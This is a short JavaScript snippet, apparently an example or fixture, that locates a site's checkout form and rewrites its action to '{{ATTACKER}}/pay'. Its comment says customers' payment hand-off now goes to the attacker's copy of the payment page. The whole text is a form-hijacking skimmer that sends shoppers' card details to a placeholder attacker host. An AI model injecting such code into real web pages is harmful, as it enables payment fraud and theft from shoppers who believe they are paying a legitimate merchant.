(function () {
  // The hand-off to the payment provider now leads to the attacker's copy
  // of the payment page.
  var form = document.getElementById('checkout-form');
  if (form) {
    form.action = '{{ATTACKER}}/pay';
  }
})();
